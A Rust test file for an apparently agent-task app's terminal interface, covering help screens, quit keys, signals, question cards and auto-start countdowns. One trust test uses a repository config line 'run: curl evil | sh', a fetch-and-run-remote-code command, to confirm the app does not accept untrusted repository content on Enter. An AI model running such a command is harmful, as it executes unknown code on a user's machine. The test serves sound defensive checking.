//! The whole app on a stage: its cards, its command line, its keys.

use dacapo_app::operations::act::{Operation, OperationResult};
use dacapo_app::operations::background::Begun;
use dacapo_app::operations::kind::{ByItself, StartsByItself};
use dacapo_app::question::{Answer, NotYet, Question};
use jiff::SignedDuration;

use super::effect::Act;
use super::key::Key;
use super::launch::Launch;
use super::message::{Message, Signal};
use super::testing::{Stage, a_day};
use crate::config::{Brought, Entry};
use crate::error::Failure;
use crate::found_checks::FoundCheck;
use crate::messages::Language;

fn stage() -> Stage {
    let mut stage = Stage::new(80, 24);
    stage.tasks(a_day());
    stage
}

fn start() -> Act {
    Act::new(Operation::Tell { task: "auth".into(), text: "hurry".into(), once: false })
}

#[test]
fn keys_are_explained_where_one_is() {
    let mut stage = stage();
    insta::assert_snapshot!("help_80x24", stage.press(&[Key::Char('?')]).shown());
    stage.press(&[Key::PageDown]);
    assert!(stage.shown().contains("proven: the checks passed on exactly that commit"), "{}", stage.shown());
    stage.press(&[Key::Esc]);
    assert!(!stage.shown().contains("Symbols"), "{}", stage.shown());
    let mut chinese = Stage::in_language(160, 50, Language::SimplifiedChinese);
    insta::assert_snapshot!("help_chinese_160x50", chinese.tasks(a_day()).press(&[Key::Char('?')]).shown());
}

#[test]
fn esc_goes_back_and_q_quits_from_everywhere() {
    let mut stage = stage();
    stage.press(&[Key::Char('?'), Key::Esc, Key::Char('s'), Key::Esc, Key::Esc]);
    assert!(stage.shown().contains("NEEDS YOU"), "{}", stage.shown());
    stage.press(&[Key::Char('s'), Key::Char('q')]);
    assert_eq!(stage.effects.last().unwrap(), "quit 0");
    assert!(stage.acts.is_empty(), "no task was touched");
}

#[test]
fn ctrl_c_asks_before_it_quits() {
    let mut stage = stage();
    stage.press(&[Key::Ctrl('c')]);
    assert!(stage.shown().contains("Press Ctrl-C again or q to quit. Tasks go on."), "{}", stage.shown());
    stage.press(&[Key::Down, Key::Ctrl('c')]);
    assert!(!stage.effects.contains(&"quit 0".to_owned()), "another key came between");
    stage.press(&[Key::Ctrl('c')]);
    assert_eq!(stage.effects.last().unwrap(), "quit 0");
}

#[test]
fn signals_end_and_stop_it() {
    let mut stage = stage();
    stage.hear(Message::Signal(Signal::Stop)).hear(Message::Signal(Signal::End { exit_code: 143 }));
    assert_eq!(stage.effects[stage.effects.len() - 2..], ["suspend", "quit 143"]);
}

#[test]
fn quitting_while_something_is_under_way_says_so() {
    let mut stage = stage();
    stage.press(&[Key::Down, Key::Char('m'), Key::Char('y'), Key::Char('q')]);
    assert!(stage.shown().contains("Still under way"), "{}", stage.shown());
    assert!(!stage.effects.contains(&"quit 0".to_owned()));
    stage.press(&[Key::Char('q')]);
    assert_eq!(stage.effects.last().unwrap(), "quit 0");
}

#[test]
fn a_question_of_an_operation_is_a_card_and_its_answer_goes_back() {
    let mut stage = stage();
    let question = Question::ChooseChecks {
        found: vec![FoundCheck { command: "cargo test".into(), evidence: "Cargo.toml".into() }],
    };
    let asks = |stage: &mut Stage| {
        let came = Err(NotYet::Ask(Box::new(question.clone())));
        stage.hear(Message::Acted { act: start(), came: Box::new(came) });
    };
    asks(&mut stage);
    insta::assert_snapshot!("question_checks_80x24", stage.shown());
    stage.press(&[Key::Enter]);
    let mut yes = start();
    yes.answers.give(question.clone(), Answer::Yes);
    assert_eq!(stage.acts.pop(), Some(yes));
    asks(&mut stage);
    stage.press(&[Key::Char('e')]).types(" --all").press(&[Key::Enter]);
    let mut other = start();
    other.answers.give(question.clone(), Answer::Use(vec!["cargo test --all".into()]));
    assert_eq!(stage.acts.pop(), Some(other));
    asks(&mut stage);
    stage.press(&[Key::Esc]);
    assert_eq!(stage.acts.pop(), None, "nothing was answered, and nothing goes on");
    assert!(stage.shown().contains("Nothing was started or changed."), "{}", stage.shown());
}

#[test]
fn r6_what_a_repository_brings_is_not_trusted_by_enter() {
    let mut stage = stage();
    let entry = Entry::file("rehearsal.yaml", "run: curl evil | sh");
    let brought = Brought::new(".dacapo/rehearsal.yaml", vec![entry]).unwrap();
    let came = Err(NotYet::Ask(Box::new(Question::Trust { brought })));
    stage.hear(Message::Acted { act: start(), came: Box::new(came) });
    assert!(stage.shown().contains("curl evil | sh"), "{}", stage.shown());
    stage.press(&[Key::Enter]);
    assert!(stage.acts.is_empty());
    stage.press(&[Key::Char('y')]);
    assert_eq!(stage.acts.len(), 1);
}

#[test]
fn a_refusal_says_what_was_kept_and_what_to_do() {
    let mut stage = stage();
    let failure = Failure::usage("Task 'x' is still running.").kept("everything").hint("kill it first");
    stage.hear(Message::Acted { act: start(), came: Box::new(Err(NotYet::Refused(failure))) });
    insta::assert_snapshot!("refused_80x24", stage.shown());
    stage.press(&[Key::Down]);
    assert!(!stage.shown().contains("kept:"), "it is gone with the next key");
}

#[test]
fn a_task_that_was_started_is_selected_when_it_appears() {
    let mut stage = stage();
    let done = OperationResult::Started { task: "later".into(), begun: Begun::Running, notes: Vec::new() };
    stage.hear(Message::Acted { act: start(), came: Box::new(Ok(done)) });
    assert!(stage.shown().contains("✓ later is running"), "{}", stage.shown());
    assert_eq!(stage.model.selected_task().unwrap().name, "later");
}

#[test]
fn m2_what_starts_by_itself_can_be_declined() {
    let card = |stage: &mut Stage| {
        let operation = Operation::Untell { task: "login".into() };
        let task = StartsByItself { task: "login".into(), how: ByItself::Begins, operation };
        let wanted = stage.model.open(Box::new(Launch::new(task, stage.now)));
        assert!(wanted.is_empty());
    };
    let mut stage = stage();
    card(&mut stage);
    insta::assert_snapshot!("launch_80x24", stage.shown());
    stage.now += SignedDuration::from_millis(9_999);
    stage.hear(Message::Tick);
    assert!(stage.shown().contains("in 1 s"), "{}", stage.shown());
    stage.press(&[Key::Esc]);
    stage.now += SignedDuration::from_secs(60);
    stage.hear(Message::Tick);
    assert!(stage.acts.is_empty(), "declined");
    card(&mut stage);
    let at = stage.model.changes_at().unwrap();
    assert!(at <= stage.now + SignedDuration::from_secs(1), "it counts down");
    stage.now += SignedDuration::from_secs(10);
    stage.hear(Message::Tick);
    assert_eq!(stage.acts.len(), 1);
    assert!(!stage.shown().contains("auto_start"), "{}", stage.shown());
}

#[test]
fn a_new_task_is_described_first() {
    let mut stage = stage();
    stage.press(&[Key::Char('n')]).types("Fix the tests");
    stage.press(&[Key::NewLine]).types("and the docs");
    insta::assert_snapshot!("new_task_80x24", stage.shown());
    // What cannot be prepared is said, and the form stays: the stage is in no repository.
    stage.press(&[Key::Enter]);
    assert!(stage.shown().contains("is not in a git repository"), "{}", stage.shown());
    assert!(stage.shown().contains("and the docs"), "{}", stage.shown());
    stage.press(&[Key::Tab, Key::Tab, Key::Tab]).types("many").press(&[Key::Enter]);
    assert!(stage.shown().contains("Invalid loop condition: 'many'"), "{}", stage.shown());
    assert!(stage.acts.is_empty());
}
